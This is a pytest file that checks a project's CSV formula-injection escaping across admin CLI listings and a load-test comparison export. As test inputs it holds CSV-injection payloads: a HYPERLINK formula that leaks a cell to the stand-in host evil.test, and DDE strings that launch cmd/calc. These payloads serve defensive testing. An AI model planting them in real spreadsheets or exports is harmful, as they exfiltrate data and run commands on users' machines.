"""CSV that a spreadsheet opens as data (tenants.csvsafe): text that would run as a formula gets a
leading apostrophe in every CSV the project writes (the fleet listings of ``perfanalysis admin
list-*`` and the load-test comparison's export), numbers stay numbers, and a cell holding a
carriage return or line feed stays one cell."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Callable
from typing import Any
from urllib.parse import urlencode

import pytest
from click.testing import Result
from flask import Flask
from sqlalchemy import select

from tenants import db as database
from tenants.access import system_actor, tenant_for
from tenants.csvsafe import records, text_cell
from tenants.keys import issue_key
from tenants.models import Collector, User
from tests.unit.test_admin_fleet_cli import add_collector, stored_as_is
from tests.unit.test_loadtests_api import bearer, call
from tests.unit.test_loadtests_pages import html
from tests.unit.test_loadtests_support import (  # noqa: F401 (an autouse fixture)
    ANALYST,
    World,
    build_world,
    cheap_password_hashing,
    document,
    logged_in,
)

HYPERLINK = '=HYPERLINK("https://evil.test/?"&A2,"open")'
DDE = "-2+3+cmd|' /C calc'!A0"
AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0"


@pytest.mark.parametrize(
    "text",
    [HYPERLINK, DDE, AT_SUM, "+cmd", "=1", "-", "+", "@", "\t=1", "\r=1", "\n=1", "\0=1",
     "-5+5", "-1)", "-1,5", "+1 ", "-inf", "-0x1F"],
)  # fmt: skip
def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text: str) -> None:
    assert text_cell(text) == "'" + text
    assert text_cell(text_cell(text)) == "'" + text  # once is enough


@pytest.mark.parametrize(
    "text", ["-5", "+3", "-0.25", "-.5", "-5.", "-1e3", "+1.5E+03", "12", "web-1", "", "'=1",
             "2026-11-01T10:00:00Z", '{"rack":"=r1"}', "a=b"],
)  # fmt: skip
def test_numbers_and_ordinary_text_are_left_as_they_are(text: str) -> None:
    assert text_cell(text) == text


def test_records_quote_text_leave_numbers_and_keep_a_cell_with_a_line_break_whole() -> None:
    rows = [["name", "delta", "count", "note"], [HYPERLINK, "-33.3", -4, None],
            ["web\r=cmd|' /C calc'!A0", -1.5, 0, "two\nlines"]]  # fmt: skip
    for line_end, line_ends in (("\r\n", 3), ("\n", 4)):  # with "\n", the cell's own LF too
        text = records(rows, line_end)
        assert text.endswith('0,"two\nlines"' + line_end)
        assert text.count(line_end) == line_ends
        parsed = list(csv.reader(io.StringIO(text, newline="")))
        assert parsed == [["name", "delta", "count", "note"], ["'" + HYPERLINK, "-33.3", "-4", ""],
                          ["web\r=cmd|' /C calc'!A0", "-1.5", "0", "two\nlines"]]  # fmt: skip


def test_records_refuse_another_line_end_by_name() -> None:
    with pytest.raises(ValueError, match=r"line_end must be one of \('\\r\\n', '\\n'\), not ';'"):
        records([["a"]], ";")


# ---- the fleet listings (perfanalysis admin list-*) ----------------------------------------


def listed(result: Result) -> list[dict[str, str]]:
    assert result.exit_code == 0, result.output
    return list(csv.DictReader(io.StringIO(result.output, newline="")))


@pytest.fixture
def acme(app: Flask, make_tenant: Any) -> None:
    make_tenant("acme", {"boss@acme.test": "admin"})


def test_list_collectors_csv_quotes_formulas_in_names_and_hostnames(
    app: Flask, runner: Callable[..., Result], acme: None
) -> None:
    add_collector(app, "acme", HYPERLINK, "web-1.acme.test", labels=["rack=-1+1"])
    stored_as_is(app, "acme", "legacy\r=cmd|' /C calc'!A0", "@evil")  # from before the checks
    result = runner("list-collectors", "acme", "--format", "csv")
    assert result.output.count("\n") == 3  # a header and two records: the CR ended none
    rows = {row["hostname"]: row for row in listed(result)}
    assert set(rows) == {"web-1.acme.test", "'@evil"}
    assert rows["web-1.acme.test"]["name"] == "'" + HYPERLINK
    assert json.loads(rows["web-1.acme.test"]["labels"]) == {"rack": "-1+1"}  # not a cell start
    assert rows["'@evil"]["name"] == "legacy\r=cmd|' /C calc'!A0"
    assert rows["'@evil"]["points_received"] == "0"
    document_ = json.loads(runner("list-collectors", "acme", "--format", "json").output)
    assert {item["name"] for item in document_} == {HYPERLINK, "legacy\r=cmd|' /C calc'!A0"}


def test_list_keys_csv_quotes_formulas_in_key_and_collector_names(
    app: Flask, runner: Callable[..., Result], acme: None
) -> None:
    add_collector(app, "acme", DDE, "web-1.acme.test")
    with app.app_context():
        db = database.session()
        tenant = tenant_for(db, system_actor(), "acme")
        collector = db.scalar(select(Collector).where(Collector.name == DDE))
        assert collector is not None
        issue_key(db, system_actor(), tenant, collector, app.extensions["pa_hasher"], AT_SUM, 30)
    (key,) = listed(runner("list-keys", "acme", "--format", "csv"))
    assert (key["name"], key["collector"]) == ("'" + AT_SUM, "'" + DDE)
    assert key["state"] == "active"


@pytest.mark.usefixtures("fast_password_hashing")
def test_list_users_csv_quotes_formulas_in_emails_and_names(
    app: Flask, runner: Callable[..., Result], make_tenant: Any
) -> None:
    email = "=cmd|'/ccalc'!a0@evil.test"
    make_tenant("acme", {email: "viewer"})
    with app.app_context():
        db = database.session()
        user = db.scalar(select(User).where(User.email == email))
        assert user is not None
        user.name = "+SUM(A1:A9)"
        db.commit()
    for args in (["list-users"], ["list-users", "acme"]):
        (row,) = listed(runner(*args, "--format", "csv"))
        assert (row["email"], row["name"]) == ("'" + email, "'+SUM(A1:A9)")


# ---- the load-test comparison's export ------------------------------------------------------


@pytest.fixture
def world(app: Flask, make_user: Any, make_tenant: Any) -> World:
    return build_world(app, make_user, make_tenant)


def test_compare_csv_quotes_formulas_in_labels_and_cpu_models(app: Flask, world: World) -> None:
    headers = bearer(app, ANALYST)
    slower = document(cpu_model=DDE)
    faster = document([level["units_per_second"] * 1.5 for level in slower["levels"]],
                      cpu_model=AT_SUM)  # fmt: skip
    ids = []
    for query, body in ((f"?{urlencode({'label': HYPERLINK})}", slower), ("", faster)):
        response = call(app.test_client(), "POST", f"/api/v1/tenants/a/loadtests{query}",
                        headers, body)  # fmt: skip
        assert response.status_code == 201, response.get_json()
        ids.append(response.get_json()["id"])
    exported = logged_in(app, ANALYST).get(
        f"/tenants/a/loadtests/compare.csv?ids={ids[0]},{ids[1]}&baseline={ids[1]}"
    )
    assert exported.status_code == 200
    rows = list(csv.DictReader(io.StringIO(html(exported), newline="")))
    first = [row for row in rows if row["run_id"] == str(ids[0])]
    second = [row for row in rows if row["run_id"] == str(ids[1])]
    assert {row["name"] for row in first} == {"'" + HYPERLINK}
    assert {row["cpu_model"] for row in first} == {"'" + DDE}
    assert {row["cpu_model"] for row in second} == {"'" + AT_SUM}
    top = next(row for row in first if row["target_busy_percent"] == "100")
    assert top["difference_vs_baseline_percent"] == "-33.3"  # a negative number stays a number
